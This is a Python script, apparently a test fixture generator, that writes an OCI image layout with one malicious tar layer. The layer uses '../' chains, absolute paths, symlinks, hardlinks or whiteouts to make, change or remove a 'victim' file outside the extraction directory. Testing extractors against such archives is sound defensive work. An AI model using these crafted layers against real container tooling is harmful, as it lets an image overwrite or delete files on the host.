"""Writes an OCI layout with one layer, right in every digest, of an archive
that says one bad thing:

  evil.py KIND DIRECTORY

KIND: dotdot, absolute, symlink, hardlink, hardlink-dotdot, whiteout, parent.
Each tries to make, change or remove something beside the layer's directory:
the file "victim" in the directory that OUTSIDE names.
"""

import gzip
import hashlib
import io
import json
import os
import sys
import tarfile

UP = "../" * 12
OUTSIDE = os.environ["OUTSIDE"].lstrip("/")


def layer(kind):
    buffer = io.BytesIO()
    archive = tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT)

    def add(name, type=tarfile.REGTYPE, link=""):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname, entry.mode = type, link, 0o755
        content = b"evil" if type == tarfile.REGTYPE else b""
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))

    if kind == "dotdot":
        add(UP + OUTSIDE + "/victim")
    if kind == "absolute":
        add("/" + OUTSIDE + "/victim")
    if kind == "symlink":
        add("out", tarfile.SYMTYPE, "/" + OUTSIDE)
        add("out/victim")
    if kind == "parent":
        add("out", tarfile.SYMTYPE, UP + OUTSIDE)
        add("out/victim")
    if kind == "hardlink":
        add("link", tarfile.LNKTYPE, "/" + OUTSIDE + "/victim")
    if kind == "hardlink-dotdot":
        add("link", tarfile.LNKTYPE, UP + OUTSIDE + "/victim")
    if kind == "whiteout":
        add("out", tarfile.SYMTYPE, "/" + OUTSIDE)
        add("out/.wh.victim")
    archive.close()
    return buffer.getvalue()


def main():
    kind, directory = sys.argv[1:]
    blobs = os.path.join(directory, "blobs/sha256")
    os.makedirs(blobs)

    def put(data, media_type):
        digest = hashlib.sha256(data).hexdigest()
        with open(os.path.join(blobs, digest), "wb") as file:
            file.write(data)
        return dict(mediaType=media_type, digest="sha256:" + digest,
                    size=len(data))

    def put_json(value, media_type):
        return put(json.dumps(value).encode(), media_type)

    oci = "application/vnd.oci.image."
    content = layer(kind)
    compressed = put(gzip.compress(content), oci + "layer.v1.tar+gzip")
    diff_id = "sha256:" + hashlib.sha256(content).hexdigest()
    config = put_json(
        dict(architecture="amd64", os="linux", config={},
             rootfs=dict(type="layers", diff_ids=[diff_id])),
        oci + "config.v1+json")
    manifest = put_json(
        dict(schemaVersion=2, mediaType=oci + "manifest.v1+json",
             config=config, layers=[compressed]),
        oci + "manifest.v1+json")
    with open(os.path.join(directory, "index.json"), "w") as file:
        json.dump(dict(schemaVersion=2, manifests=[manifest]), file)
    with open(os.path.join(directory, "oci-layout"), "w") as file:
        file.write('{"imageLayoutVersion": "1.0.0"}')


main()
